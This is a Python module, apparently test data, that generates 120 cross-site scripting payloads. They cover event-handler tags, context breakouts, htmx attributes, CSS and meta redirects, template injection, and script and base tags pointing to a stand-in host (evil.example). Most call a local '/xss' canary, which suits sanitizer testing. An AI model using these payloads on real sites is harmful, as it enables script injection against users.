"""What somebody might type who wants a page to do something: 120 ways, each of which asks for ``/xss`` or shows a box."""

ACT = "alert(1),fetch('/xss')"
HANDLERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "details open": "ontoggle",
    "input autofocus": "onfocus",
    "video src=x": "onerror",
    "audio src=x": "onerror",
    "iframe src=/xss": "onload",
    "marquee": "onstart",
    "select autofocus": "onfocus",
    "object data=/xss": "onerror",
    "embed src=/xss": "onload",
}
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</option></select>")
OTHERS = (
    f"<script>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</script>",
    "<script src=/xss></script>",
    "<script src=https://evil.example/xss.js></script>",
    f"<ScRiPt >{ACT}</sCrIpT>",
    f'<a href="javascript:{ACT}" autofocus>x</a>',
    f"javascript:{ACT}",
    '<div hx-get="/xss" hx-trigger="load">x</div>',
    '<div data-hx-get="/xss" data-hx-trigger="load">x</div>',
    f'<div hx-on:htmx:load="{ACT}">x</div>',
    f'<div hx-trigger="load[{ACT}]" hx-get="/xss">x</div>',
    f"<div hx-vals='js:{{a:{ACT}}}' hx-get='/xss' hx-trigger='load'>x</div>",
    '<div hx-ext="x" hx-ws="connect:/xss" hx-sse="connect:/xss">x</div>',
    '<meta http-equiv="refresh" content="0;url=/xss">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="/xss">',
    "<style>@import '/xss';</style>",
    '<p style="background:url(/xss)">x</p>',
    '<form action="/xss" id=f><button autofocus>x</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<template><img src=x onerror={ACT}></template>",
    f"{{{{ ''.constructor.constructor('{ACT}')() }}}}",
    f'" autofocus onfocus="{ACT}" x="',
    f"' autofocus onfocus='{ACT}' x='",
)
PAYLOADS = tuple(
    [f"{out}<{tag} {handler}={ACT}>" for tag, handler in HANDLERS.items() for out in WAYS_OUT] + list(OTHERS)
)
